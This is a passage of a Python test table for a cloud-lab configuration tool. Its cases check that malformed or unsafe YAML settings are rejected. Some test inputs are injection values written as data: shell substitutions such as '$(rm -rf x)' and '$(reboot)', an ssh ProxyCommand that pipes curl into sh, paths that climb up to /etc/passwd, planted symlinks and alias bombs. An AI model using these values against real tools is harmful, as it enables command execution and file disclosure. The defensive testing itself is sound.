    case("cohort allowOpen 1", f"sync demo --environments {E}", r"allowOpenAdminCidr: 1 is not allowed; allowed: true or false",
         cohort_edit("profile: learner-lab", "profile: learner-lab\nallowOpenAdminCidr: 1")),
    case("cohort seat quoted", f"sync demo --environments {E}", r"roster\[1\].seat: \"3\" is not allowed",
         cohort_edit("  - id: s02\n", "  - id: s02\n    seat: '3'\n")),
    case("cohort seat true", f"sync demo --environments {E}", r"roster\[1\].seat: true is not allowed",
         cohort_edit("  - id: s02\n", "  - id: s02\n    seat: true\n")),
    case("cohort seat octal", f"sync demo --environments {E}", r"roster\[1\].seat: \"0o10\" is not allowed",
         cohort_edit("  - id: s02\n", "  - id: s02\n    seat: 0o10\n")),
    case("cohort seat out of range", f"sync demo --environments {E}", r"roster\[1\].seat: 300 is not allowed",
         cohort_edit("  - id: s02\n", "  - id: s02\n    seat: 300\n")),
    case("cohort seat float", f"sync demo --environments {E}", r"roster\[1\].seat: 3.0 is not allowed",
         cohort_edit("  - id: s02\n", "  - id: s02\n    seat: 3.0\n")),
    case("cohort id number", f"sync demo --environments {E}", r"roster\[1\].id: 1234 is not allowed .*not text; put it in quotes",
         cohort_edit("  - id: s02", "  - id: 1234")),
    case("cohort id path", f"sync demo --environments {E}", r"roster\[1\].id: \"../s02\" is not allowed",
         cohort_edit("  - id: s02", "  - id: ../s02")),
    case("cohort id twice", f"sync demo --environments {E}", r"roster\[1\].id: \"s01\" is not allowed \(listed twice: first at line \d+\)",
         cohort_edit("  - id: s02", "  - id: s01")),
    case("cohort roster empty", f"sync demo --environments {E}", r"roster: \[\] is not allowed",
         cohort_text("cohort: demo\nregion: us-east-1\nadminCidr: 203.0.113.0/24\nexpires: 2026-12-19\nlabs: [vpc-nat]\nroster: []\n")),
    case("cohort lab unknown", f"sync demo --environments {E}", r"labs\[0\].lab: \"vpc-natt\" is not allowed \(did you mean vpc-nat\?\)",
         cohort_edit("  - lab: vpc-nat\n    stage: solution", "  - lab: vpc-natt\n    stage: solution")),
    case("cohort stage unknown", f"sync demo --environments {E}", r"labs\[0\].stage: \"finished\" is not allowed; allowed: stages of vpc-nat",
         cohort_edit("    stage: solution", "    stage: finished")),
    case("cohort option count quoted", f"sync demo --environments {E}", r"roster\[0\].labs\[0\].options.count: \"3\" is not allowed",
         cohort_edit("options: {count: 3,", "options: {count: '3',")),
    case("cohort option count float", f"sync demo --environments {E}", r"options.count: 2.5 is not allowed",
         cohort_edit("options: {count: 3,", "options: {count: 2.5,")),
    case("cohort option count bool", f"sync demo --environments {E}", r"options.count: true is not allowed",
         cohort_edit("options: {count: 3,", "options: {count: true,")),
    case("cohort option unknown", f"sync demo --environments {E}", r"options.colour: \"red\" is not allowed \(unknown option\)",
         cohort_edit("options: {count: 3,", "options: {colour: red, count: 3,")),
    case("cohort option bool yes", f"sync demo-net --environments {E}", r"options.natGateway: \"no\" is not allowed; allowed: true or false",
         cohort_edit("    labs: [{lab: vpc-peering, stage: starter}]", "    labs: [{lab: vpc-peering, stage: starter, options: {natGateway: no}}]", "demo-net")),
    case("cohort admin /1", f"sync demo --environments {E}", r"adminCidr: \"0.0.0.0/1\" is not allowed \(opens SSH to 2,147,483,648 internet addresses\)",
         cohort_edit("203.0.113.0/24", "0.0.0.0/1")),
    case("cohort admin /8", f"sync demo --environments {E}", r"adminCidr: \"1.0.0.0/8\" is not allowed \(opens SSH to 16,777,216 internet addresses\)",
         cohort_edit("203.0.113.0/24", "1.0.0.0/8")),
    case("cohort admin not a range", f"sync demo --environments {E}", r"adminCidr: \"campus\" is not allowed \(not an IP network in CIDR form\)",
         cohort_edit("203.0.113.0/24", "campus")),
    case("cohort admin IPv6", f"sync demo --environments {E}", r"adminCidr: \"::/0\" is not allowed \(IPv6 admin ranges are not supported yet\)",
         cohort_edit("203.0.113.0/24", "'::/0'")),
    case("cohort profile path", f"sync demo --environments {E}", r"profile: \"../../profiles/sandbox\" is not allowed; allowed: one of: learner-lab, sandbox",
         cohort_edit("profile: learner-lab", "profile: ../../profiles/sandbox")),
    case("cohort profile absolute", f"sync demo --environments {E}", r"profile: \"/etc/passwd\" is not allowed; allowed: one of",
         cohort_edit("profile: learner-lab", "profile: /etc/passwd")),
    case("cohort profile unknown", f"sync demo --environments {E}", r"profile: \"academy\" is not allowed; allowed: one of: learner-lab, sandbox",
         cohort_edit("profile: learner-lab", "profile: academy")),
    case("cohort region of another profile", f"sync demo --environments {E}", r"region: \"eu-west-1\" is not allowed; allowed: a region of profile learner-lab",
         cohort_edit("region: us-east-1", "region: eu-west-1")),
    case("cohort expires not a date", f"sync demo --environments {E}", r"expires: \"2026-02-30\" is not allowed \(not a calendar date\)",
         cohort_edit("expires: 2026-12-19", "expires: 2026-02-30")),
    case("cohort expires a number", f"sync demo --environments {E}", r"expires: 20261219 is not allowed",
         cohort_edit("expires: 2026-12-19", "expires: 20261219")),
    case("cohort key name number", f"sync demo --environments {E}", r"keyName: 123 is not allowed",
         cohort_edit("keyName: vockey", "keyName: 123")),
    case("cohort key file with a space", f"sync demo --environments {E}", r"keyFile: \"my key.pem\" is not allowed; allowed: the private key file",
         cohort_edit("keyName: vockey", "keyName: vockey\nkeyFile: my key.pem")),
    case("cohort key file shell", f"sync demo --environments {E}", r"keyFile: \"\$\(rm -rf x\).pem\" is not allowed",
         cohort_edit("keyName: vockey", "keyName: vockey\nkeyFile: $(rm -rf x).pem")),
    case("cohort key file a number", f"sync demo --environments {E}", r"keyFile: 7 is not allowed",
         cohort_edit("keyName: vockey", "keyName: vockey\nkeyFile: 7")),
    case("cohort name prefix yes", f"sync demo --environments {E}", r"nameTagPrefix: \"yes\" is not allowed; allowed: true or false",
         cohort_edit("keyName: vockey", "keyName: vockey\nnameTagPrefix: 'yes'")),
    case("cohort name prefix typo", f"sync demo --environments {E}", r"nameTagPrefx.*unknown key; did you mean nameTagPrefix\?",
         cohort_edit("keyName: vockey", "keyName: vockey\nnameTagPrefx: false")),
    case("cohort instance type of no profile", f"sync demo --environments {E}", r"instanceType: \"m5.24xlarge\" is not allowed; allowed: an instance type of profile",
         cohort_edit("instanceType: t3.micro", "instanceType: m5.24xlarge")),
    case("cohort too deep", f"sync demo --environments {E}", r"demo.yaml:\d+: nested more than 64 levels deep",
         cohort_edit("roster:", "deep: " + "[" * 80 + "]" * 80 + "\nroster:")),
    case("cohort complex key", f"sync demo --environments {E}", r"demo.yaml:\d+: not valid YAML: found unhashable key",
         cohort_edit("roster:", "? [a, b]\n: c\nroster:")),
    case("cohort a FIFO", f"sync demo --environments {E}", r"demo.yaml: not a regular file; allowed: a cohort file",
         lambda box: ((box.env / "demo.yaml").unlink(), os.mkfifo(box.env / "demo.yaml"))),
    # --- stack names across cohorts, and files sync does not own ---------------------------------------
    case("roster id in another cohort's names", f"sync demo --environments {E}",
         r"roster\[1\].id: \"net-n01\" is not allowed \(the stack demo-net-n01 would belong to cohort demo-net",
         cohort_edit("  - id: s02", "  - id: net-n01")),
    case("existing stack file of another cohort", f"sync demo --environments {E}",
         r"Pulumi.demo-s02.yaml: belongs to cohort 'demo-app', student 's02'; sync of cohort demo does not write",
         stack_edit("demo-s02", cloudlabs__cohort="demo-app")),
    case("existing stack file unreadable", f"sync demo --environments {E}",
         r"Pulumi.demo-s02.yaml:\d+: not valid YAML.*sync of cohort demo will not replace or remove it",
         stack_text("config: [\n", "demo-s02")),
    case("prune next to an unreadable stack file", f"sync demo --prune --environments {E}",
         r"Pulumi.demo-zz.yaml:\d+: not valid YAML.*named like a stack of cohort demo",
         stack_text("config: [\n", "demo-zz")),
    # --- seat files ---------------------------------------------------------------------------------------
    case("seats not a mapping", f"sync demo --environments {E}", r"demo.seats.yaml:1: seats: missing",
         lambda box: box.write("environments/demo.seats.yaml", "- 1\n")),
    case("seats quoted seat", f"sync demo --environments {E}", r"demo.seats.yaml:\d+: seats.s02: \"2\" is not allowed",
         seats_edit('"s02": 2', '"s02": "2"')),
    case("seats shared seat", f"sync demo --environments {E}", r"seats.s02: 1 is not allowed \(also the seat of s01\)",
         seats_edit('"s02": 2', '"s02": 1')),
    case("seats other cohort", f"sync demo --environments {E}", r"demo.seats.yaml:3: cohort: \"demo-net\" is not allowed",
         seats_edit("cohort: demo", "cohort: demo-net")),
    case("seats alias bomb", f"sync demo --environments {E}", r"demo.seats.yaml:\d+: (more than 100 aliases|expands to more than)",
         lambda box: box.write("environments/demo.seats.yaml", ALIAS_BOMB)),
    # --- stack files (plan, check, cost, fleet) ---------------------------------------------------------------
    case("stack not YAML", f"plan demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml:2: not valid YAML", stack_text("config:\n  a: [\n")),
    case("stack without config", f"plan demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml:1: config: missing; allowed: a mapping of settings",
         stack_text("encryptionsalt: x\n")),
    case("stack config a list", f"check demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml:1: config: not a mapping", stack_text("config: [1, 2]\n")),
    case("stack a scalar", f"cost demo-s01 --environments {E}", r"the document is text; allowed: a stack settings file", stack_text("hello\n")),
    case("stack number key", f"plan demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml:\d+: key 1 is a number; allowed: text keys",
         stack_text("config:\n  1: 2\n  cloudlabs:seat: 1\n")),
    case("stack seat quoted", f"plan demo-s01 --environments {E}", r"cloudlabs:seat: \"1\" is not allowed \(text, not a number; remove the quotes\)",
         stack_edit(cloudlabs__seat="1")),
    case("stack allowOpen yes", f"plan demo-s01 --environments {E}", r"cloudlabs:allowOpenAdminCidr: \"yes\" is not allowed; allowed: true or false",
         stack_edit(cloudlabs__allowOpenAdminCidr="yes")),
    case("stack name prefix 1", f"plan demo-s01 --environments {E}", r"cloudlabs:nameTagPrefix: 1 is not allowed; allowed: true or false",
         stack_edit(cloudlabs__nameTagPrefix=1)),
    case("stack key file trailing slash", f"plan demo-s01 --environments {E}", r"cloudlabs:keyFile: \"keys/\" is not allowed",
         stack_edit(cloudlabs__keyFile="keys/")),
    case("stack profile path", f"plan demo-s01 --environments {E}", r"cloudlabs:profile: \"../profiles/sandbox\" is not allowed; allowed: one of",
         stack_edit(cloudlabs__profile="../profiles/sandbox")),
    case("stack admin /0 IPv4 halves", f"up demo-s01 --environments {E}", r"cloudlabs:adminCidr: \"128.0.0.0/1\" is not allowed",
         stack_edit(cloudlabs__adminCidr="128.0.0.0/1")),
    case("stack name mismatch", f"plan demo-s01 --environments {E}", r"cloudlabs:student: \"s02\" is not allowed \(the file is for stack demo-s01",
         stack_edit(cloudlabs__student="s02")),
    case("stack alias bomb", f"plan demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml:\d+: (more than 100 aliases|expands to more than)",
         stack_text("config: {}\n" + ALIAS_BOMB)),
    case("stack not UTF-8", f"destroy demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml:1: not UTF-8 text", stack_text(b"config: {\xff}\n")),
    case("stack option text count", f"plan demo-s01 --environments {E}", r"cloudlabs:labs\[0\].options.count: \"3\" is not allowed",
         stack_edit(cloudlabs__labs=[{"lab": "ec2-webserver", "options": {"count": "3"}}])),
    case("containers variant unknown", f"plan demo-s01 --environments {E}",
         r"options.variant: \"docker\" is not allowed; allowed: aws \(a Docker host.*or local",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "docker"}}])),
    case("containers coursework local", f"check demo-s01 --environments {E}", r"coursework: true needs variant: aws",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "coursework": True}}])),
    case("containers dockerHost bad", f"cost demo-s01 --environments {E}", r"dockerHost 'localhost:2375' is not unix://, tcp://",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "dockerHost": "localhost:2375"}}])),
    case("stack option beanstalk environment", f"plan demo-s01 --environments {E}",
         r"cloudlabs:labs\[0\].options.environment: \"multi\" is not allowed; allowed: single \(one instance.*or high-availability",
         stack_edit(cloudlabs__labs=[{"lab": "beanstalk", "options": {"environment": "multi"}}])),
    case("stack option peering topology", f"check demo-s01 --environments {E}",
         r"cloudlabs:labs\[0\].options.topology: \"mesh\" is not allowed; allowed: full-mesh \(.*or provider",
         stack_edit(cloudlabs__labs=[{"lab": "peering-topologies", "options": {"topology": "mesh"}}])),
    case("stack option two chapter-5 assignments", f"cost demo-s01 --environments {E}",
         r"options.parts: \[\"tcp-analysis\", \"coursework-nacl\"\] is not allowed \(tcp-analysis and coursework-nacl both build VM1-VM3",
         stack_edit(cloudlabs__labs=[{"lab": "access-control", "options": {"parts": ["tcp-analysis", "coursework-nacl"]}}])),
    case("stack duplicate key", f"plan demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml:\d+: config.cloudlabs:seat: written twice \(first at line \d+\)",
         lambda box: box.edit("environments/Pulumi.demo-s01.yaml", "  cloudlabs:seat: 1\n", "  cloudlabs:seat: 1\n  cloudlabs:seat: 2\n")),
    case("stack file too large", f"plan demo-s01 --environments {E}", r"Pulumi.demo-s01.yaml: \d+ bytes is too large",
         stack_text("config: {}\n#" + "x" * (1 << 20))),
    # --- values: keys, URLs and derived names ------------------------------------------------------------------
    case("ssh-access existing without keyName", f"validate demo-s01 --environments {E}",
         r"Pulumi.demo-s01.yaml: cloudlabs:labs\[0\].options.key: \"existing\" is not allowed \(key: existing uses the stack's keyName",
         stack_edit(cloudlabs__keyName=None, cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "existing"}}])),
    case("cohort ssh-access existing without keyName", f"sync demo-tools --environments {E}",
         r"demo-tools.yaml:\d+: labs\[0\].options.key: \"existing\" is not allowed \(key: existing uses the stack's keyName",
         lambda box: (cohort_edit("keyName: vockey\n", "", "demo-tools")(box),
                      cohort_edit("  - lab: ssh-access\n", "  - lab: ssh-access\n    options: {key: existing}\n", "demo-tools")(box))),
    case("roster ssh-access existing without keyName", f"sync demo-tools --check --environments {E}",
         r"demo-tools.yaml:\d+: roster\[2\].labs\[0\].options.key: \"existing\" is not allowed",
         lambda box: (cohort_edit("keyName: vockey\n", "", "demo-tools")(box),
                      cohort_edit("[{lab: containers, stage: starter}]", "[{lab: ssh-access, options: {key: existing}}]",
                                  "demo-tools")(box),
                      cohort_edit("os: windows-server-2019", "os: ubuntu-24.04", "demo-tools")(box))),
    case("roster Windows server without keyName", f"sync demo-tools --check --environments {E}",
         r"demo-tools.yaml:\d+: roster\[1\].labs\[0\].options.os: \"windows-server-2019\" is not allowed \(a Windows "
         r"server's Administrator password is encrypted with its key pair .*nothing to decrypt with\)",
         cohort_edit("keyName: vockey\n", "", "demo-tools")),
    case("publicKey not a key blob", f"plan demo-s01 --environments {E}",
         r"options.publicKey: \"ssh-rsa QUFBQUFB.*\" is not allowed \(publicKey is not an OpenSSH public key EC2 imports: the key "
         r"data does not start with the key type ssh-rsa",
         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported",
                                                                       "publicKey": "ssh-rsa QUFBQUFBQUFBQUFBQUFBQUFBQUFB"}}])),
    case("publicKey ed25519 prefix on an RSA key", f"validate demo-s01 --environments {E}",
         r"options.publicKey: \"ssh-ed25519 AAAAB3.* is not allowed \(.*the line says ssh-ed25519 but its key data holds a ssh-rsa key",
         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported", "publicKey": "ssh-ed25519 "
                                      "AAAAB3NzaC1yc2EAAAADAQABAAABAQCtju46z+veUCmNwtRqZ5PgCXcwTEH/6rzZJ4lLjonw5DmHG/5Beo8HPtNtnp"
                                      "3bz/Krjx5QzrZ1MDAhW1S+q6DxOGvd31heJBMKD+OlnHcaUfDDMhtmEqnPpuvwN7mGRaVar9T9BwnIrv+ZgpRqzAIu"
                                      "3hwpgRf981j15q6fITnuVHvrzC3dDA47qRFewAluVLdxlfWz6i0LVR8GFYi0s8iAdSwdb+/F6jDkttw6MZbOQGKE1+"
                                      "pwAIcP2psZHtymScni/2bTEWMuP6dPda0lPZtTXF1k88sqjBmjq4/hcNWLwpCttHP62Zd+gD61LReE8T11D0KjRBQmwODJnuGkAYgx me@laptop"}}])),
    case("publicKey comment with a carriage return", f"check demo-s01 --environments {E}",
         r"options.publicKey: .* is not allowed \(.*not one line of printable ASCII",
         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported", "publicKey":
                                      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3v4xb3Dm0s0fLZCwzvA6z6oWvZl9z9qQ5c2pGmYc1L me\r"}}])),
    case("publicKey comment with a command", f"cost demo-s01 --environments {E}",
         r"options.publicKey: .* is not allowed \(.*the comment has characters other than letters, digits, spaces and",
         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "imported", "publicKey":
                                      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3v4xb3Dm0s0fLZCwzvA6z6oWvZl9z9qQ5c2pGmYc1L $(reboot)"}}])),
    case("publicKey an ECDSA key", f"sync demo-tools --environments {E}",
         r"demo-tools.yaml:\d+: roster\[0\].labs\[0\].options.publicKey: .* \(.*EC2 imports RSA \(ssh-rsa\) and ED25519",
         cohort_edit("  - id: t01\n", "  - id: t01\n    labs: [{lab: ssh-access, options: {key: imported, publicKey: "
                     "'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTY='}}]\n", "demo-tools")),
    case("ssh-access algorithm without a key the lab or the student makes", f"preview demo-s01 --environments {E}",
         r"options.algorithm: \"ED25519\" is not allowed \(algorithm is only read with key: created or generated",
         stack_edit(cloudlabs__labs=[{"lab": "ssh-access", "options": {"key": "existing", "algorithm": "ED25519"}}])),
    case("dockerHost an unclosed IPv6 bracket", f"check demo-s01 --environments {E}",
         r"options.dockerHost: \"tcp://\[::1\" is not allowed \(not a URL \(Invalid IPv6 URL\)\); allowed: the Docker engine",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "dockerHost": "tcp://[::1"}}])),
    case("dockerHost an option smuggled into ssh", f"plan demo-s01 --environments {E}",
         r"options.dockerHost: \"ssh://-oProxyCommand=.*\" is not allowed \(the host starts with - \(ssh would read it as an option\)",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local",
                                                                       "dockerHost": "ssh://-oProxyCommand=curl${IFS}x|sh"}}])),
    case("dockerHost port out of range", f"validate demo-s01 --environments {E}",
         r"options.dockerHost: \"tcp://localhost:99999\" is not allowed \(the port is not a whole number from 1 to 65535\)",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "dockerHost": "tcp://localhost:99999"}}])),
    case("dockerHost unix path up the tree", f"cost demo-s01 --environments {E}",
         r"options.dockerHost: \"unix://../../etc/passwd\" is not allowed \(unix:// takes a path, not a host",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local", "dockerHost": "unix://../../etc/passwd"}}])),
    case("dockerHost unix path with dot-dot", f"up demo-s01 --environments {E}",
         r"options.dockerHost: \"unix:///var/run/../../etc/passwd\" is not allowed \(the socket path has . or .. segments",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local",
                                                                       "dockerHost": "unix:///var/run/../../etc/passwd"}}])),
    case("dockerHost with a password, masked", f"plan demo-s01 --environments {E}",
         r"options.dockerHost: \"tcp://admin:\*\*\*@host:2376\" is not allowed \(a password in the address: it would be written",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"variant": "local",
                                                                       "dockerHost": "tcp://admin:s3cret@host:2376"}}])),
    case("cohort dockerHost ssh password, masked", f"sync demo-tools --environments {E}",
         r"roster\[2\].labs\[0\].options.dockerHost: \"ssh://me:\*\*\*@192.0.2.10\" is not allowed \(a password",
         cohort_edit("[{lab: containers, stage: starter}]",
                     "[{lab: containers, stage: starter, options: {variant: local, dockerHost: 'ssh://me:s3cret@192.0.2.10'}}]",
                     "demo-tools")),
    case("dockerHost without variant local", f"check demo-s01 --environments {E}",
         r"options.dockerHost: \"unix:///var/run/docker.sock\" is not allowed \(dockerHost is only read with variant: local\)",
         stack_edit(cloudlabs__labs=[{"lab": "containers", "options": {"dockerHost": "unix:///var/run/docker.sock"}}])),
    # --- values: names made from cohort and student ids ------------------------------------------------------
    case("roster id makes a security group named sg-", f"sync demo --environments {E}",
         r"demo.yaml:\d+: roster\[1\].id: \"sg\" is not allowed \(every lab makes the EC2 security group name "
         r"sg-<group>-<26-character suffix>, against its rule: not starting with sg-",
         cohort_edit("  - id: s02", "  - id: sg")),
    case("roster id sg- prefix", f"sync demo --check --environments {E}",
         r"demo.yaml:\d+: roster\[2\].id: \"sg-3\" is not allowed \(every lab makes the EC2 security group name sg-",
         cohort_edit("  - id: s03", "  - id: sg-3")),
    case("stack student makes a security group named sg-", f"plan demo-sg --environments {E}",
         r"Pulumi.demo-sg.yaml: cloudlabs:student: \"sg\" is not allowed \(every lab makes the EC2 security group name sg-",
         lambda box: box.write("environments/Pulumi.demo-sg.yaml", (box.env / "Pulumi.demo-s01.yaml").read_text()
                               .replace("cloudlabs:student: s01", "cloudlabs:student: sg"))),
    case("cohort id makes a bucket with a reserved prefix", f"sync sthree --environments {E}",
         r"sthree.yaml:1: cohort: \"sthree\" is not allowed \(lab object-storage makes the S3 bucket name "
         r"sthree-<student>-<purpose>-<account id>, against its rule: not starting with xn--, sthree-, amzn-s3-demo-",
         lambda box: box.write("environments/sthree.yaml", "cohort: sthree\nregion: us-east-1\nadminCidr: 203.0.113.0/24\n"
                               "expires: 2026-12-19\nlabs: [object-storage]\nroster: [s01]\n")),
    case("roster labs make a bucket with the cohort's reserved prefix", f"sync sthree --environments {E}",
         r"sthree.yaml:1: cohort: \"sthree\" is not allowed \(lab beanstalk makes the S3 bucket name sthree-<student>-",
         lambda box: box.write("environments/sthree.yaml", "cohort: sthree\nregion: us-east-1\nadminCidr: 203.0.113.0/24\n"
                               "expires: 2026-12-19\nlabs: [vpc-nat]\nroster:\n  - s01\n  - {id: s02, labs: [beanstalk]}\n")),
    case("roster id completes a reserved bucket prefix", f"sync amzn --environments {E}",
         r"amzn.yaml:\d+: roster\[0\].id: \"s3-demo\" is not allowed \(lab beanstalk makes the S3 bucket name "
         r"amzn-s3-demo-<purpose>-<account id>",
         lambda box: box.write("environments/amzn.yaml", "cohort: amzn\nregion: us-east-1\nadminCidr: 203.0.113.0/24\n"
                               "expires: 2026-12-19\nlabs: [beanstalk]\nroster: [s3-demo]\n")),
    case("stack cohort makes a bucket with a reserved prefix", f"validate sthree-s01 --environments {E}",
         r"Pulumi.sthree-s01.yaml: cloudlabs:cohort: \"sthree\" is not allowed \(lab object-storage makes the S3 bucket name "
         r"sthree-<student>-<purpose>-<account id>",
         lambda box: box.write("environments/Pulumi.sthree-s01.yaml", (box.env / "Pulumi.demo-s01.yaml").read_text()
                               .replace("cloudlabs:cohort: demo", "cloudlabs:cohort: sthree")
                               .replace("  - lab: ec2-webserver\n    options:\n      count: 3\n      os: alternate\n",
                                        "  - lab: object-storage\n"))),
    # --- values: settings that contradict each other ----------------------------------------------------------
    case("dual-stack natGateway without coursework", f"plan demo-s01 --environments {E}",
         r"options.natGateway: false is not allowed \(natGateway is only read with coursework: true",
         stack_edit(cloudlabs__labs=[{"lab": "dual-stack", "options": {"natGateway": False}}])),
    case("roster dual-stack natGateway without coursework", f"sync demo-net --environments {E}",
         r"demo-net.yaml:\d+: roster\[3\].labs\[0\].options.natGateway: false is not allowed \(natGateway is only read with",
         cohort_edit("[{lab: dual-stack, stage: starter}]", "[{lab: dual-stack, stage: starter, options: {natGateway: false}}]",
                     "demo-net")),
    case("cohort keyFile without keyName", f"sync demo --environments {E}",
         r"demo.yaml:\d+: keyFile: \"labsuser.pem\" is not allowed \(keyFile names the private key of keyName's key pair, and no "
         r"keyName is set",
         cohort_edit("keyName: vockey ", "keyFile: labsuser.pem ")),
    case("stack keyFile without keyName", f"up demo-s01 --environments {E}",
         r"Pulumi.demo-s01.yaml: cloudlabs:keyFile: \"labsuser.pem\" is not allowed \(keyFile names the private key",
         stack_edit(cloudlabs__keyName=None, cloudlabs__keyFile="labsuser.pem")),
    case("Windows Server on a Graviton type", f"plan demo-s01 --environments {E}",
         r"cloudlabs:labs\[0\].options.os: \"windows-server-2019\" is not allowed \(Windows Server 2019 images are x86_64 only, "
         r"and instanceType t4g.micro is an arm64",
         stack_edit(cloudlabs__profile="sandbox", cloudlabs__instanceType="t4g.micro",
                    cloudlabs__labs=[{"lab": "ec2-webserver", "options": {"os": "windows-server-2019"}}])),
    case("roster Windows Server on the cohort's Graviton type", f"sync demo-tools --environments {E}",
         r"demo-tools.yaml:\d+: roster\[1\].labs\[0\].options.os: \"windows-server-2019\" is not allowed \(Windows Server 2019",
         lambda box: (cohort_edit("profile: learner-lab", "profile: sandbox\naccounts: {model: self-service}", "demo-tools")(box),
                      cohort_edit("instanceType: t3.micro", "instanceType: t4g.small", "demo-tools")(box))),
    # --- guardrail profiles ------------------------------------------------------------------------------------
    case("profile session hours as text", f"plan demo-s01 --environments {E}",
         r"cloudlabs:profile: 'learner-lab' cannot be used: .*learner-lab.yaml:\d+: sessionHours: \"4\" is not allowed",
         profile_edit("sessionHours: 4", "sessionHours: '4'")),
    case("profile createRoles yes", f"plan demo-s01 --environments {E}",
         r"cannot be used: .*learner-lab.yaml:\d+: iam.createRoles: \"no\" is not allowed",
         profile_edit("createRoles: false", "createRoles: no")),
    case("profile limit size unknown", f"plan demo-s01 --environments {E}",
         r"cannot be used: .*learner-lab.yaml:\d+: limits.largestInstanceSize: \"huge\" is not allowed .*allowed: one of nano, "
         r"micro, small, medium, large, xlarge",
         profile_edit("largestInstanceSize: large", "largestInstanceSize: huge")),
    case("profile limit as text", f"validate demo-s01 --environments {E}",
         r"cannot be used: .*learner-lab.yaml:\d+: limits.runningInstances: \"9\" is not allowed \(Input should be a valid "
         r"integer\); allowed: a whole number of EC2 instances more than 0",
         profile_edit("runningInstances: 9", "runningInstances: '9'")),
    case("profile name mismatch", f"plan demo-s01 --environments {E}",
         r"cannot be used: .*learner-lab.yaml:\d+: name: 'academy' is not allowed; allowed: the file's name",
         profile_edit("name: learner-lab", "name: academy")),
    case("profile no regions", f"plan demo-s01 --environments {E}", r"cannot be used: .*learner-lab.yaml:\d+: regions: \[\] is not allowed",
         profile_edit("regions: [us-east-1, us-west-2]", "regions: []")),
    case("profile not YAML", f"plan demo-s01 --environments {E}", r"cannot be used: .*learner-lab.yaml:\d+: not valid YAML",
         profile_edit("regions: [us-east-1, us-west-2]", "regions: [us-east-1")),
    case("profile unknown key", f"plan demo-s01 --environments {E}", r"cannot be used: .*learner-lab.yaml:\d+: credits: 100 is not allowed \(unknown key\)",
         profile_edit("sessionHours: 4", "sessionHours: 4\ncredits: 100")),  # budget: is a key now (labctl budget)
    case("profile budget not rising", f"plan demo-s01 --environments {E}",
         r"cannot be used: .*learner-lab.yaml:\d+: budget: .* is not allowed \(Value error, destroy \(70%\) must be more than stop "
         r"\(80%\)\); allowed: a mapping of perStudent",
         profile_edit("destroy: 95 ", "destroy: 70 ")),
    case("cohort budget not a number", f"budget demo --environments {E} --emulate",
         r"demo.yaml:\d+: budget.perStudent: \"lots\" is not allowed \(Input should be a valid number\); allowed: an amount in USD",
         lambda box: box.edit("environments/demo.yaml", "instanceType: t3.micro", "instanceType: t3.micro\nbudget:\n  perStudent: lots")),
    case("profile key file with a folder", f"plan demo-s01 --environments {E}",
         r"cannot be used: .*learner-lab.yaml:\d+: keyFiles.vockey: \"../labsuser.pem\" is not allowed .*allowed: key pair name -> "
         r"the file name",
         profile_edit("vockey: labsuser.pem", "vockey: ../labsuser.pem")),
    case("cohort with a broken profile", f"sync demo --environments {E}",
         r"demo.yaml: cloudlabs:profile: 'learner-lab' cannot be used: .*learner-lab.yaml:\d+: sessionHours: \"4\" is not allowed",
         profile_edit("sessionHours: 4", "sessionHours: '4'")),
    # --- the price table -----------------------------------------------------------------------------------------
    case("prices not YAML", f"plan demo-s01 --environments {E}", r"aws-on-demand.yaml:\d+: not valid YAML",
         lambda box: box.write("pricing/aws-on-demand.yaml", "regions: [\n")),
    case("price as text", f"cost demo-s01 --environments {E}", r"aws-on-demand.yaml:\d+: regions.us-east-1.natGatewayHour: \"0.045\" is not allowed .*allowed: a price in USD",
         lambda box: box.edit("pricing/aws-on-demand.yaml", "natGatewayHour: 0.045", "natGatewayHour: '0.045'"), lines=2),
    case("price NaN", f"plan demo-s01 --environments {E}", r"natGatewayHour: NaN is not allowed \(Input should be a finite number\)",
         lambda box: box.edit("pricing/aws-on-demand.yaml", "natGatewayHour: 0.045", "natGatewayHour: .nan"), lines=2),
    case("price negative", f"plan demo-s01 --environments {E}", r"regions.us-east-1.natGatewayHour: a negative price is not allowed",
         lambda box: box.edit("pricing/aws-on-demand.yaml", "natGatewayHour: 0.045", "natGatewayHour: -0.045")),
    case("prices unknown key", f"check demo-s01 --environments {E}", r"aws-on-demand.yaml:\d+: discount: 0.5 is not allowed \(unknown key\)",
         lambda box: box.write("pricing/aws-on-demand.yaml", (box.root / "pricing/aws-on-demand.yaml").read_text() + "discount: 0.5\n")),
    # --- lab content: regular files inside labs/ only (cloudlabs.content) ----------------------------
    case("plan content link to the environment", f"plan demo-tools-t04 --environments {E} --snapshots {{root}}/snap",
         r"^labctl: labs/containers/lighttpd/html/env.txt: a symbolic link is not allowed; allowed: regular files inside labs/$",
         planted("containers/lighttpd/html/env.txt")),
    case("check content link replacing a picture", f"check demo-app-a03 --environments {E}",
         r"labs/object-storage/Capture.PNG: a symbolic link is not allowed", planted("object-storage/Capture.PNG", target="/etc/hostname")),
    case("cost content link to a folder", f"cost demo-tools-t05 --environments {E}",
         r"labs/beanstalk/app/etc: a symbolic link is not allowed", planted("beanstalk/app/etc", target="/etc")),
